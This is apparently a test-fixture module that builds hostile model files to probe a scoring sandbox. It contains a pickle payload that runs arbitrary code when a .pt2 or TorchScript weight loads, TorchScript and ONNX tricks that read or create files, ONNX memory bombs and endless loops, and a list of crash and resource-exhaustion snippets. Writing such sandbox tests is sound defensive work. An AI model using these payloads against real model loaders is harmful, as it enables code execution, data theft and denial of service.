"""Models that attack: as their authors would write them, loaded as any other.

The widest door is .pt2: the archive itself may say that a weight is a pickle, and torch then runs
what it holds. So `program` puts any Python into the sandbox by the way that an attacker has.
"""

import io
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path

import onnx
import torch
from onnx import TensorProto, helper

from scoring.sandbox.contract import Format, Upload
from tests.scoring.sandbox import honest

Node = onnx.NodeProto


class _Run:
    """Unpickled, it is the tensor in its place, after `code` has run."""

    def __init__(self, code: str, weight: torch.Tensor) -> None:
        self._code, self._weight = code, weight

    def __reduce__(self) -> tuple[object, ...]:
        names = {"code": self._code, "weight": self._weight}
        return eval, ("exec(code, {'__name__': 'probe'}) or weight", names)


def program(code: str, path: Path) -> Upload:
    """An honest model whose first weight runs `code` when it is loaded."""
    network = honest.network()
    upload = honest.write(Format.PT2, network, path)
    first, weight = next(iter(network.state_dict().items()))
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    listed = next(name for name in members if name.endswith("weights_config.json"))
    table = json.loads(members[listed])
    entry = table["config"][first]
    entry["use_pickle"] = True
    members[listed] = json.dumps(table).encode()
    loaded = io.BytesIO()
    torch.save(_Run(code, torch.nn.Parameter(weight)), loaded)
    members[str(Path(listed).parent / entry["path_name"])] = loaded.getvalue()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return upload


def pickle(code: str, path: Path) -> Upload:
    """A pickle in the clothes of TorchScript."""
    torch.save(_Run(code, torch.zeros(1)), path)
    return Upload(path, Format.TORCHSCRIPT)


class _Files(torch.nn.Module):
    """Makes a file and answers with what it reads of another: TorchScript has a word for both."""

    def __init__(self, made: str, read: str) -> None:
        super().__init__()
        self.made, self.read = made, read

    def forward(self, images: torch.Tensor) -> torch.Tensor:
        torch.from_file(self.made, True, 16, dtype=torch.uint8).fill_(1)
        secret = torch.from_file(self.read, False, 3, dtype=torch.uint8)
        return secret.float().expand(images.size(0), 3) + 0 * images.mean()


def torchscript_files(made: Path, read: Path, path: Path) -> Upload:
    return honest.script(_Files(str(made), str(read)), path)


# --- ONNX


def onnx_model(
    nodes: Sequence[Node], path: Path, initializers: Sequence[TensorProto] = ()
) -> Upload:
    image: list[str | int | None] = ["N", honest.CHANNELS, honest.SIDE, honest.SIDE]
    graph = helper.make_graph(
        list(nodes),
        "attack",
        [helper.make_tensor_value_info("images", TensorProto.FLOAT, image)],
        [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", 3])],
        list(initializers),
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    path.write_bytes(model.SerializeToString())
    return Upload(path, Format.ONNX)


def _means() -> list[Node]:
    return [helper.make_node("ReduceMean", ["images"], ["means"], axes=[2, 3], keepdims=0)]


def external_data(location: str, path: Path) -> Upload:
    """Its answers are the bytes of the file at `location`, as floats."""
    tensor = TensorProto(name="secret", data_type=TensorProto.FLOAT, dims=[3])
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "12")):
        tensor.external_data.add(key=key, value=value)
    nodes = [*_means(), helper.make_node("Add", ["means", "secret"], ["logits"])]
    return onnx_model(nodes, path, [tensor])


def constant_bomb(path: Path) -> Upload:
    """40 GB out of 142 bytes, and needed for the answer."""
    side = helper.make_tensor("side", TensorProto.INT64, [2], [100_000, 100_000])
    nodes = [
        *_means(),
        helper.make_node("ConstantOfShape", ["side"], ["large"]),
        helper.make_node("ReduceSum", ["large"], ["sum"], keepdims=0),
        helper.make_node("Add", ["means", "sum"], ["logits"]),
    ]
    return onnx_model(nodes, path, [side])


def endless_loop(path: Path) -> Upload:
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["going"], ["still_going"]),
            helper.make_node("Identity", ["before"], ["after"]),
        ],
        "body",
        [
            helper.make_tensor_value_info("turn", TensorProto.INT64, []),
            helper.make_tensor_value_info("going", TensorProto.BOOL, []),
            helper.make_tensor_value_info("before", TensorProto.FLOAT, None),
        ],
        [
            helper.make_tensor_value_info("still_going", TensorProto.BOOL, []),
            helper.make_tensor_value_info("after", TensorProto.FLOAT, None),
        ],
    )
    yes = helper.make_tensor("yes", TensorProto.BOOL, [], [True])
    nodes = [*_means(), helper.make_node("Loop", ["", "yes", "means"], ["logits"], body=body)]
    return onnx_model(nodes, path, [yes])


# --- Code inside. What a probe finds out comes back as the model's answers: a byte a number.

ANSWERS = 64  # classes of a probe's contract
_PROBE = Path(__file__).with_name("probe.py")


def probe(path: Path, **known: object) -> Upload:
    """Runs probe.py inside, which is told what is known of the machine outside."""
    return program(f"{_PROBE.read_text()}\nmain({known!r})\n", path)


def _said(code: str) -> str:
    """With a `say` that speaks to whoever listens at the other end of what is open."""
    return (
        "import os, time\n"
        "def say(words):\n"
        " for descriptor in range(3, 9):\n"
        "  try: os.write(descriptor, words)\n"
        "  except OSError: pass\n"
    ) + code


BOMBS: dict[str, str] = {
    "memory": "held = [bytearray(1 << 26) for _ in range(10_000)]",
    "shared_memory": (
        "import mmap\nheld = []\nwhile True:\n"
        " held.append(mmap.mmap(-1, 1 << 28)); held[-1].write(b'x' * (1 << 28))"
    ),
    "tensors": "import torch\nheld = [torch.ones(1 << 24) for _ in range(10_000)]",
    "sleep": "import time\nwhile True: time.sleep(100)",
    "busy": "while True: pass",
    "deaf": (
        "import signal, time\n"
        "for number in range(1, 32):\n"
        " try: signal.signal(number, signal.SIG_IGN)\n"
        " except OSError: pass\n"
        "while True: time.sleep(100)"
    ),
    "exit": "import os; os._exit(0)",
    "system_exit": "raise SystemExit(0)",
    "abort": "import os; os.abort()",
    "segmentation_fault": "import ctypes; ctypes.string_at(0)",
    "recursion": "def f(): f()\nf()",
    "endless_line": _said("while True: say(b'x' * 65536)"),
    "forged_line": _said("say(b'[1, 2]\\n'); time.sleep(100)"),
    "deep_line": _said("say(b'[' * 10_000 + b'\\n'); time.sleep(100)"),
}
